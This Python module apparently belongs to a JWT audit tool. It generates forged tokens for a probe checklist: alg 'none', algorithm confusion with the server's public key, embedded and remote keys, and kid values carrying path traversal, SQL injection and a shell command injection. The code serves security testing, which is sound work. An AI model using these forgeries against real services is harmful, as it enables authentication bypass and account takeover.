"""JWT forge: the valid baseline and every attack variant of the probe checklist.

Valid tokens are signed through PyJWT's algorithm objects; attack tokens PyJWT refuses to
make are assembled by hand (:mod:`.jws`). Key material comes from :mod:`.keys`; a
:class:`Forged` token's evidence carries its header and claims, never the signature or
the key.

:class:`Forger` is the one object the probes use. It is built from a :class:`Minter`
(header, claims, signing: the valid tokens) and one mixin per attack family —
:class:`SignatureAttacks` (probes 3–9), :class:`HeaderKeyAttacks` (10–12) and
:class:`ClaimAttacks` (13, 15) — with the attacker's own keys in :class:`AttackerKeys`.
"""

from __future__ import annotations

import datetime as dt
import os
import time
import uuid
from dataclasses import dataclass, field
from functools import cached_property
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID
from jwt.algorithms import ECAlgorithm, RSAAlgorithm

from .jws import assemble, assemble_hmac, b64url, json_bytes, sign_with, split_token
from .keys import Keys
from .profile import Profile
from .templates import render

_CURVE = {"ES256": ec.SECP256R1, "ES384": ec.SECP384R1, "ES512": ec.SECP521R1}
DROP = object()  #: claim override meaning "leave this claim out"


def _apply(base: dict[str, Any], overrides: dict[str, Any]) -> dict[str, Any]:
    """``base`` updated with ``overrides``; a value of :data:`DROP` removes the key."""
    for k, v in overrides.items():
        if v is DROP:
            base.pop(k, None)
        else:
            base[k] = v
    return base


@dataclass(frozen=True)
class Forged:
    """One minted token with what it claims to be.

    ``expect`` is the secure behaviour: ``"accept"`` or ``"reject"``. ``header`` and
    ``claims`` are what the token decodes to (None where deliberately undecodable).
    """

    label: str
    token: str
    header: dict[str, Any] | None
    claims: dict[str, Any] | None
    note: str = ""
    expect: str = "reject"
    meta: dict[str, Any] = field(default_factory=dict)

    def evidence(self) -> dict[str, Any]:
        """What was sent, without the signature: label, header, claims, how it was signed."""
        return {"token": self.label, "header": self.header, "claims": self.claims, "signed": self.note}


class AttackerKeys:
    """The attacker's key pairs (made on first use) and the documents a fetching target would trust."""

    @cached_property
    def rsa(self) -> rsa.RSAPrivateKey:
        """A 2048-bit RSA key (jwk, jku, x5u and wrong-key tokens)."""
        return rsa.generate_private_key(public_exponent=65537, key_size=2048)

    @cached_property
    def ec(self) -> ec.EllipticCurvePrivateKey:
        """A P-256 key (embedded EC jwk, ES256 wrong-key tokens)."""
        return ec.generate_private_key(ec.SECP256R1())

    def key_for(self, alg: str) -> Any:
        """A key of the attacker's for ``alg`` (random bytes for HS*)."""
        if alg.startswith("HS"):
            return os.urandom(32)
        if alg.startswith(("RS", "PS")):
            return self.rsa
        return self.ec if alg == "ES256" else ec.generate_private_key(_CURVE[alg]())

    def jwks_document(self) -> dict[str, Any]:
        """JWKS the local listener serves for ``jku``."""
        return {"keys": [dict(RSAAlgorithm.to_jwk(self.rsa.public_key(), as_dict=True),
                              kid="ws-audit-jku", use="sig", alg="RS256")]}

    def x509_pem(self) -> bytes:
        """Self-signed certificate of the attacker key the listener serves for ``x5u``."""
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "ws-audit attacker")])
        now = dt.datetime.now(dt.timezone.utc)
        cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
                .public_key(self.rsa.public_key()).serial_number(x509.random_serial_number())
                .not_valid_before(now - dt.timedelta(minutes=5)).not_valid_after(now + dt.timedelta(days=1))
                .sign(self.rsa, hashes.SHA256()))
        return cert.public_bytes(serialization.Encoding.PEM)


class Minter:
    """Valid tokens for one profile and key set: header, claims, signature (probes 1, 14, 16, 21).

    Parameters
    ----------
    profile : Profile
    keys : Keys
    now : float, optional
        Clock for ``iat``/``exp`` (tests pin it).
    """

    def __init__(self, profile: Profile, keys: Keys, now: float | None = None) -> None:
        self.profile = profile
        self.keys = keys
        self.attacker = AttackerKeys()
        self._now = now

    @property
    def now(self) -> int:
        """The clock, in whole seconds."""
        return int(self._now if self._now is not None else time.time())

    @property
    def alg(self) -> str:
        """The configured algorithm."""
        return self.keys.algorithm

    def header(self, **extra: Any) -> dict[str, Any]:
        """The configured header (alg, typ, kid) with ``extra`` entries; ``DROP`` removes one."""
        h: dict[str, Any] = {"alg": self.alg, "typ": self.profile.typ or "JWT"}
        if self.profile.kid:
            h["kid"] = self.profile.kid
        return _apply(h, extra)

    def claims(self, sub: str | None = None, **overrides: Any) -> dict[str, Any]:
        """Profile claims (``{sub}`` rendered) + sub, iat, exp, jti; ``DROP`` removes a claim."""
        sub = sub or self.profile.subject
        now = self.now
        c: dict[str, Any] = dict(render(self.profile.claims, sub=sub))
        c.update({"sub": sub, "iat": now, "exp": now + self.profile.token_lifetime_s,
                  "jti": uuid.uuid4().hex})
        return _apply(c, overrides)

    def sign(self, header: dict[str, Any], claims: dict[str, Any]) -> str:
        """Token signed with the configured key."""
        return sign_with(header, claims, self.keys.signing_key)

    def make(self, label: str, claims: dict[str, Any] | None = None, header: dict[str, Any] | None = None,
             expect: str = "reject", note: str = "") -> Forged:
        """A token signed correctly with the configured key (validity decided by its claims)."""
        h = header or self.header()
        c = claims if claims is not None else self.claims()
        return Forged(label, self.sign(h, c), h, c, note or f"{h['alg']} with the configured key", expect)

    def baseline(self, sub: str | None = None) -> Forged:
        """Valid token for ``sub`` (default: the profile's subject)."""
        return self.make("baseline", self.claims(sub), expect="accept")

    def short_lived(self, seconds: int) -> Forged:
        """Valid token expiring ``seconds`` from now (probe 14)."""
        return self.make(f"exp in {seconds} s", self.claims(exp=self.now + seconds), expect="accept")


class SignatureAttacks(Minter):
    """Tokens whose encoding, signature or algorithm is wrong (probes 3–9)."""

    def malformed(self) -> list[Forged]:
        """Probe 3: not a JWT, two segments, bad base64, non-JSON header."""
        c = self.claims()
        return [
            Forged("garbage string", "ws-audit-garbage-token", None, None, "not a JWT"),
            Forged("2 segments", f"{b64url(json_bytes(self.header()))}.{b64url(json_bytes(c))}", self.header(), c,
                   "no signature segment"),
            Forged("bad base64", "!!!.@@@.###", None, None, "segments are not base64url"),
            Forged("non-JSON header", f"{b64url(b'not json')}.{b64url(json_bytes(c))}.{b64url(os.urandom(32))}",
                   None, c, "header decodes to non-JSON"),
        ]

    def tampered(self) -> list[Forged]:
        """Probe 4: payload changed under the original signature; signature truncated."""
        base = self.baseline()
        _, _, sig = split_token(base.token)
        c = dict(base.claims or {}, sub=self.profile.victim_subject)
        head = base.token.split(".")[0]
        return [
            Forged("payload sub→victim, original signature", f"{head}.{b64url(json_bytes(c))}.{sig}", base.header, c,
                   "baseline signature over a different payload"),
            Forged("signature truncated by 4 chars", base.token[:-4], base.header, base.claims,
                   "baseline with the last 4 signature characters removed"),
        ]

    def alg_none(self) -> list[Forged]:
        """Probe 5: four spellings of ``none``, with an empty and with the old signature."""
        base = self.baseline()
        _, _, sig = split_token(base.token)
        out = []
        for spelling in ("none", "None", "NONE", "nOnE"):
            h = {"alg": spelling, "typ": "JWT"}
            out.append(Forged(f"alg {spelling}, empty signature", assemble(h, base.claims or {}, b""), h,
                              base.claims, "unsigned"))
            out.append(Forged(f"alg {spelling}, old signature", assemble(h, base.claims or {}, sig), h,
                              base.claims, "unsigned header with the baseline's signature"))
        return out

    def null_signature(self) -> list[Forged]:
        """Probe 6: HS256 with an empty and with an all-zero signature."""
        h, c = self.header(alg="HS256"), self.claims()
        return [
            Forged("HS256, empty signature", assemble(h, c, b""), h, c, "empty signature"),
            Forged("HS256, all-zero signature", assemble(h, c, bytes(32)), h, c, "32 zero bytes"),
        ]

    def wrong_key(self) -> list[Forged]:
        """Probe 7: the configured header signed with a random key."""
        h, c = self.header(), self.claims()
        return [Forged("same alg and kid, wrong key", sign_with(h, c, self.attacker.key_for(self.alg)), h, c,
                       f"{self.alg} with a random key")]

    def confusion(self) -> list[Forged]:
        """Probe 8: HS256 keyed with the server's public key (PEM, PEM ± trailing newline, DER)."""
        pem = self.keys.public_pem
        if not pem:
            return []
        pub = serialization.load_pem_public_key(pem)
        der = pub.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
        stripped = pem.rstrip(b"\n")
        variants = {"PEM with trailing newline": stripped + b"\n", "PEM without trailing newline": stripped,
                    "DER": der}
        h, c = self.header(alg="HS256"), self.claims()
        return [Forged(f"HS256 keyed with public key ({name})", assemble_hmac(h, c, key), h, c,
                       f"HMAC-SHA256 over the public key bytes ({name})", meta={"hmac_key": name})
                for name, key in variants.items()]

    def disallowed_algs(self) -> list[Forged]:
        """Probe 8: correctly signed tokens with algorithms outside the pinned one."""
        out = []
        c = self.claims()
        family = self.alg[:2]
        for alg in ("HS256", "HS384", "HS512", "RS256", "RS512", "PS256", "ES256", "ES384"):
            if alg == self.alg:
                continue
            h = self.header(alg=alg)
            same_hmac = family == "HS" and alg.startswith("HS")
            same_rsa = family in ("RS", "PS") and alg[:2] in ("RS", "PS")
            if same_hmac or same_rsa:
                key, note = self.keys.signing_key, f"{alg} with the configured key"
            else:
                if alg.startswith("HS"):
                    continue  # HS with the public key is the confusion case; with a random key it is wrong_key
                key, note = self.attacker.key_for(alg), f"{alg} with an attacker key"
            out.append(Forged(f"alg {alg}", sign_with(h, c, key), h, c, note))
        return out

    def empty_secret(self) -> list[Forged]:
        """Probe 9: HS256 signed with an empty key."""
        h, c = self.header(alg="HS256"), self.claims()
        return [Forged('HS256 signed with ""', assemble_hmac(h, c, b""), h, c, "HMAC with an empty key")]


class HeaderKeyAttacks(Minter):
    """Tokens whose header tells the target which key to use (probes 10–12)."""

    def jwk_header(self) -> list[Forged]:
        """Probe 10: the attacker's public key embedded as ``jwk`` (RSA and EC)."""
        c = self.claims()
        rsa_jwk = RSAAlgorithm.to_jwk(self.attacker.rsa.public_key(), as_dict=True)
        ec_jwk = ECAlgorithm.to_jwk(self.attacker.ec.public_key(), as_dict=True)
        h1 = {"alg": "RS256", "typ": "JWT", "jwk": dict(rsa_jwk, kid="ws-audit-jwk")}
        h2 = {"alg": "ES256", "typ": "JWT", "jwk": dict(ec_jwk, kid="ws-audit-jwk")}
        return [Forged("embedded RSA jwk", sign_with(h1, c, self.attacker.rsa), h1, c, "RS256 with the embedded key"),
                Forged("embedded EC jwk", sign_with(h2, c, self.attacker.ec), h2, c, "ES256 with the embedded key")]

    def jku_x5u(self, base_url: str) -> list[Forged]:
        """Probe 11: ``jku`` / ``x5u`` pointing at the local listener at ``base_url``."""
        c = self.claims()
        h1 = {"alg": "RS256", "typ": "JWT", "kid": "ws-audit-jku", "jku": f"{base_url}/jwks.json"}
        h2 = {"alg": "RS256", "typ": "JWT", "x5u": f"{base_url}/cert.pem"}
        return [Forged("jku → local listener", sign_with(h1, c, self.attacker.rsa), h1, c, "RS256, attacker key"),
                Forged("x5u → local listener", sign_with(h2, c, self.attacker.rsa), h2, c, "RS256, attacker key")]

    def kid_injection(self) -> list[Forged]:
        """Probe 12: ``kid`` path traversal, SQL and command injection, unknown kid."""
        c = self.claims()
        cases = [
            ("kid path traversal to /dev/null", "../../../../../../../dev/null", b"", "HS256 with an empty key"),
            ("kid SQL injection", "x' UNION SELECT 'ws-audit-key' -- ", b"ws-audit-key",
             "HS256 with the key the injection selects"),
            ("kid command injection", "ws-audit-kid; sleep 2 #", os.urandom(32), "HS256 with a random key"),
            ("unknown kid", f"ws-audit-unknown-{uuid.uuid4().hex[:8]}", os.urandom(32), "HS256 with a random key"),
        ]
        out = []
        for label, kid, key, note in cases:
            h = {"alg": "HS256", "typ": "JWT", "kid": kid}
            out.append(Forged(label, assemble_hmac(h, c, key), h, c, note))
        return out


class ClaimAttacks(Minter):
    """Correctly signed tokens whose claims are wrong (probes 13, 15)."""

    def exp_nbf(self) -> list[Forged]:
        """Probe 13: exp past (beyond / within leeway), exp missing, nbf in the future."""
        now, lw = self.now, int(self.profile.leeway_s)
        out = [self.make("exp past (beyond leeway)", self.claims(iat=now - lw - 600, exp=now - lw - 120))]
        if lw >= 2:
            out.append(self.make("exp past within leeway", self.claims(exp=now - lw // 2), expect="accept"))
        out.append(self.make("exp missing", self.claims(exp=DROP)))
        out.append(self.make("nbf in the future", self.claims(nbf=now + lw + 600)))
        return out

    def iss_aud_type(self) -> list[Forged]:
        """Probe 15: wrong and missing iss / aud / token_type (those the profile sets), wrong typ."""
        out = []
        for claim in ("iss", "aud", "token_type"):
            if claim in self.profile.claims:
                out.append(self.make(f"wrong {claim}", self.claims(**{claim: f"ws-audit-wrong-{claim}"})))
                out.append(self.make(f"missing {claim}", self.claims(**{claim: DROP})))
        if self.profile.typ:
            out.append(self.make("wrong typ header", header=self.header(typ="ws-audit-wrong+jwt")))
        return out


class Forger(SignatureAttacks, HeaderKeyAttacks, ClaimAttacks):
    """Mints the baseline and every attack variant for one profile and key set (see the module docstring)."""
